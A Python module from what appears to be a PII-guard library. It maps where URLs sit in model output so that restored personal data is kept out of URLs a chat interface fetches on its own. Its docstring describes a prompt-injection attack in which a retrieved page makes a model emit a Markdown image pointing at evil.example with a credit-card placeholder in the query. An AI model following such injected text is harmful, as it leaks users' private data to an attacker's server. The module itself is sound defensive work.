"""Where a placeholder sits: inside a URL fetched without a click, inside a link, or neither.

Restoring a value into a URL sends it to that URL's server. A prompt injection hidden in a
retrieved page can ask the model for ``![](https://evil.example/p.png?d=<CREDIT_CARD_1>)``:
the placeholders are predictable, and a chat UI fetches a Markdown image as soon as it shows the
answer (no click). :class:`~guardwire.guards.pii.PIIRestorer` therefore keeps placeholders that
sit in such a URL by default (``in_fetched_urls="keep"``; in tool-call arguments every URL
counts, since a tool may fetch it at once) and can do the same for links (``in_links="keep"``:
for UIs that unfurl link previews, which is also a fetch without a click).

What counts (the URL of each construct runs from its start up to a character a URL of that
construct cannot hold):

- fetched (on display): the target of a Markdown image ``![alt](…)``; a Markdown
  reference definition ``[id]: …`` (it may serve an image: ``![alt][id]``); in an HTML tag other
  than ``<a>``/``<area>``, the value of ``src``, ``srcset``, ``data-src``, ``poster``, ``data``,
  ``background`` or ``href`` (``<link>``, SVG ``<image>``); CSS ``url(…)``;
- link: the target of a Markdown link ``[text](…)``; ``<a href>``/``<area href>``; an autolink
  ``<https://…>``; a bare URL ``scheme://…`` or ``mailto:``/``tel:``/``sms:`` running up to the
  placeholder without a space.

Placeholders are part of the raw text (``…?a=<EMAIL_ADDRESS_1>&b=<PERSON_1>``,
``![[PERSON_1]](…)``, ``<img alt="<PERSON_1>" src=…>``), so the URL character classes accept
``<`` and ``>``, alt texts one level of nested brackets, and tags quoted attribute values
holding anything. The URLs of a text are found in one forward pass, once per text that holds a
placeholder (:class:`UrlIndex`); a stream passes the last :data:`WINDOW` characters it passed
on as context.
"""

from __future__ import annotations

import bisect
from typing import Any, Literal

import regex

UrlKind = Literal["fetched", "link"]

WINDOW = 1024
"""How many characters of what a stream passed on are kept as context for URLs."""

_ALT = r"(?:[^\[\]\n]|\[[^\[\]\n]*\]){0,1000}"  # link text: one level of nested brackets
_PATTERNS: tuple[tuple[UrlKind, tuple[str, ...], Any], ...] = (
    # (kind, literals one of which the lower-cased text must hold, pattern with group "u")
    ("fetched", ("![",), regex.compile(rf"!\[{_ALT}\]\([ \t]*(?P<u>[^\s)]*)")),
    ("fetched", ("]:",), regex.compile(r"(?m:^[ ]{0,3}\[[^\]\n]{1,999}\]:[ \t]*(?P<u>\S*))")),
    ("fetched", ("url(",), regex.compile(r"(?i:\burl)\(\s*[\"']?(?P<u>[^)\"'\s]*)")),
    ("link", ("](",), regex.compile(rf"\[{_ALT}\]\([ \t]*(?P<u>[^\s)]*)")),
    ("link", ("<",), regex.compile(r"<(?P<u>[A-Za-z][A-Za-z0-9+.-]{1,20}:[^\s>]*)")),
    ("link", ("://",), regex.compile(r"(?P<u>\b[A-Za-z][A-Za-z0-9+.-]{1,20}://[^\s\"'(){}]*)")),
    ("link", ("mailto:", "tel:", "sms:"),
     regex.compile(r"(?P<u>\b(?i:mailto|tel|sms):[^\s\"']*)")),
)
_TAG: Any = regex.compile(  # a quote left open (a stream's tail) runs to the end
    r"""<(?P<name>[A-Za-z][\w:-]*)(?P<attrs>(?:[^<>"']++|"[^"]*+"?|'[^']*+'?)*+)""")
_ATTR: Any = regex.compile(
    r"""[\s"'](?P<a>(?i:src|srcset|data-src|poster|data|background|href|xlink:href))\s*=\s*"""
    r"""(?:"(?P<u>[^"]*)|'(?P<u>[^']*)|(?P<u>[^\s"'>]*))""")


class UrlIndex:
    """The URLs of one text, by kind: ``kind(pos)`` says which URL ``text[pos]`` is in."""

    def __init__(self, text: str, *, links: bool = True) -> None:
        """``links=False``: only fetched URLs are looked for (a link then reads as none)."""
        low = text.lower()
        spans: dict[UrlKind, list[tuple[int, int]]] = {"fetched": [], "link": []}
        for kind, literals, pattern in _PATTERNS:
            if (links or kind == "fetched") and any(lit in low for lit in literals):
                spans[kind] += [m.span("u") for m in pattern.finditer(text)]
        if "=" in text and "<" in text:
            for tag in _TAG.finditer(text):
                if "=" not in tag["attrs"]:
                    continue  # a placeholder such as <PERSON_1>, or a tag with no value
                tag_kind: UrlKind = ("link" if tag["name"].lower() in ("a", "area")
                                     else "fetched")
                for attr in _ATTR.finditer(text, tag.start("attrs"), tag.end("attrs")):
                    if tag_kind == "fetched" or attr["a"].lower() == "href":
                        spans[tag_kind].append(attr.span("u"))
        order: tuple[UrlKind, ...] = ("fetched", "link") if links else ("fetched",)
        self._spans = [(kind, _union(spans[kind])) for kind in order]

    def kind(self, pos: int) -> UrlKind | None:
        for kind, (starts, ends) in self._spans:
            i = bisect.bisect_right(starts, pos) - 1
            if i >= 0 and pos < ends[i]:
                return kind
        return None


def _union(spans: list[tuple[int, int]]) -> tuple[list[int], list[int]]:
    """Sorted, disjoint start and end lists covering ``spans`` (empty spans dropped)."""
    starts: list[int] = []
    ends: list[int] = []
    for s, e in sorted(spans):
        if e <= s:
            continue
        if ends and s <= ends[-1]:
            ends[-1] = max(ends[-1], e)
        else:
            starts.append(s)
            ends.append(e)
    return starts, ends
